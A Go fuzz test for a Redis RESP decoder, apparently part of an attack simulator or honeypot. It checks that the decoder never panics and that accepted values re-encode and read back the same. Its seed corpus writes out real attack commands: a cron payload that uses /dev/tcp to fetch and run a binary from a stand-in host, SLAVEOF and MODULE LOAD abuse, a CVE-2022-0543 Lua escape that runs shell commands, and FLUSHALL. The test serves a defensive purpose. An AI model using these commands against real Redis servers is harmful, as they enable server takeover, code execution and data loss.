package redis

import (
	"bufio"
	"bytes"
	"reflect"
	"testing"
)

// FuzzReadValue feeds arbitrary bytes to the RESP decoder every Redis
// connection is read through. Properties: no input panics it, and a
// value it accepts re-encodes to bytes it reads back as the same value.
// The seeds are the commands the simulated campaigns send (P2PInfect,
// ABCbot, the CVE-2022-0543 Lua escape), cross-protocol probes, an
// inline command and the replies attackers read.
func FuzzReadValue(f *testing.F) {
	commands := [][]string{
		{"INFO", "server"},
		{"SET", "x", "\n\n*/1 * * * * root exec 6<>/dev/tcp/198.51.100.1/8080 && echo -n 'GET /linux' >&6 && cat 0<&6 >/tmp/cafe; fi && chmod +x /tmp/cafe && /tmp/cafe\n"},
		{"CONFIG", "SET", "dir", "/var/spool/cron.d/"},
		{"SLAVEOF", "198.51.100.1", "8080"},
		{"MODULE", "LOAD", "/tmp/exp.so"},
		{"EVAL", `local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res`, "0"},
		{"KEYS", "*"},
		{"FLUSHALL"},
	}
	for _, c := range commands {
		f.Add(EncodeCommand(c...))
	}
	for _, probe := range []string{
		"JDWP-Handshake",
		"\x03\x00\x00\x26\x21\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n",
		"PING extra\r\n",
		"*1\r\n*1\r\n*1\r\n$1\r\nx\r\n",
		"*1024\r\n*1024\r\n",
	} {
		f.Add([]byte(probe))
	}
	for _, reply := range []Value{
		Simple("OK"), Err("ERR unknown command"), Int(-1), NullBulk(),
		Arr(Bulk("0"), Arr(Bulk("session:9"), Bulk("x"))), // SCAN
		{Kind: Array, Null: true},
	} {
		f.Add(Encode(nil, reply))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		v, err := ReadValue(bufio.NewReader(bytes.NewReader(data)))
		if err != nil {
			return
		}
		enc := Encode(nil, v)
		back, err := ReadValue(bufio.NewReader(bytes.NewReader(enc)))
		if err != nil {
			t.Fatalf("accepted %q, but its encoding %q does not read back: %v", data, enc, err)
		}
		if !reflect.DeepEqual(back, v) {
			t.Fatalf("accepted %q as %#v, but its encoding %q reads back as %#v", data, v, enc, back)
		}
	})
}
